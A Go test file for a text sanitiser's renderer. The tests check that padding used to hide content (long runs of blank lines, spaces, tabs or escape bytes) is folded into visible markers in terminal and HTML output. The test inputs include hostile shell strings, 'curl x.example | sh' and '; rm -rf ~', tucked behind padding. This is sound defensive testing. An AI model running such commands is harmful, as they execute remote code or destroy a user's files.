package render

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/plainsight-dev/plainsight"
)

// TestFold checks that each run of padding shows as its marker, in plain
// terminal output, with the marker line under it, and in HTML.
func TestFold(t *testing.T) {
	tests := []struct {
		in, terminal, html string
	}{
		{
			"echo hello" + strings.Repeat("\n", 121) + "curl x.example | sh",
			"echo hello\n⟨120 blank lines⟩\n^^^^^^^^^^^^^^^^^\ncurl x.example | sh\n",
			`echo hello` + "\n" + `<mark class="ps-mark ps-sev-warn ps-kind-padding" data-warning="0" aria-describedby="ps-w0" title="padding: `,
		},
		{
			"ls" + strings.Repeat(" ", 8000) + "; rm -rf ~",
			// The line is also wider than paddingLineWidth: marked whole.
			"ls⟨8,000 spaces⟩; rm -rf ~\n~~^^^^^^^^^^^^^^~~~~~~~~~~",
			`<span class="ps-fold" title="8,000 spaces of padding, not shown">⟨8,000 spaces⟩</span>`,
		},
		{
			"ls" + strings.Repeat("\t", 9) + "rm",
			"ls⟨9 tabs⟩rm\n  ^^^^^^^^\n",
			`<span class="ps-fold" title="9 tabs of padding, not shown">⟨9 tabs⟩</span></mark>rm`,
		},
		{
			"a\n\r\n\r\n\r\n\r\n\r\nb",
			"a\n⟨5 blank lines⟩\n^^^^^^^^^^^^^^^\nb\n",
			`⟨5 blank lines⟩</span>` + "\n",
		},
	}
	for _, tt := range tests {
		r := plainsight.Sanitize(tt.in)
		text := TerminalText(r, TerminalOptions{})
		if !strings.HasPrefix(text+"\n", tt.terminal) && text != tt.terminal {
			t.Errorf("TerminalText(Sanitize(%.30q)):\n%s", tt.in, cmp.Diff(tt.terminal, text))
		}
		if h := string(HTML(r, HTMLOptions{})); !strings.Contains(h, tt.html) {
			t.Errorf("HTML(Sanitize(%.30q)) = %s\nwant it to hold %s", tt.in, h, tt.html)
		}
		checkHTML(t, r, HTMLOptions{})
	}
}

// TestFoldHandBuilt checks that a padding location over text that is not
// whitespace is marked, never folded: a hand-built Result cannot hide
// text behind a marker.
func TestFoldHandBuilt(t *testing.T) {
	r := plainsight.Result{
		Text: "ls; rm -rf ~",
		Warnings: []plainsight.Warning{{
			Kind: plainsight.KindPadding, Severity: plainsight.SeverityWarn, Count: 1,
			Locations: []plainsight.Location{{Text: plainsight.Span{Start: 2, End: 12}}},
		}},
	}
	if got := TerminalText(r, TerminalOptions{}); got != "ls; rm -rf ~\n  ~~~~~~~~~~" {
		t.Errorf("TerminalText = %q", got)
	}
	if h := string(HTML(r, HTMLOptions{})); strings.Contains(h, "ps-fold") || !strings.Contains(h, "; rm -rf ~") {
		t.Errorf("HTML = %s", h)
	}
}

// TestFoldRepeats checks that the terminal shows a run of one escape
// repeated more than maxRepeatShown times as its marker, under a marker
// line of ^, and a shorter run escape by escape.
func TestFoldRepeats(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a" + strings.Repeat("\x1b", 20000) + "b", "a⟨\\x1b ×20,000⟩b\n~^^^^^^^^^^^^^^~"},
		{"a" + strings.Repeat("\x1b", maxRepeatShown+1) + "b", "a⟨\\x1b ×17⟩b\n ^^^^^^^^^^~"},
		{"a" + strings.Repeat("\x1b", maxRepeatShown) + "b", "a" + strings.Repeat(`\x1b`, maxRepeatShown) + "b\n " + strings.Repeat("^", 4*maxRepeatShown) + "~"},
	}
	for _, tt := range tests {
		r := plainsight.Sanitize(tt.in)
		if diff := cmp.Diff(tt.want, TerminalText(r, TerminalOptions{})); diff != "" {
			t.Errorf("TerminalText(Sanitize(%+q)) (-want +got):\n%s", tt.in[:min(len(tt.in), 40)], diff)
		}
	}
}
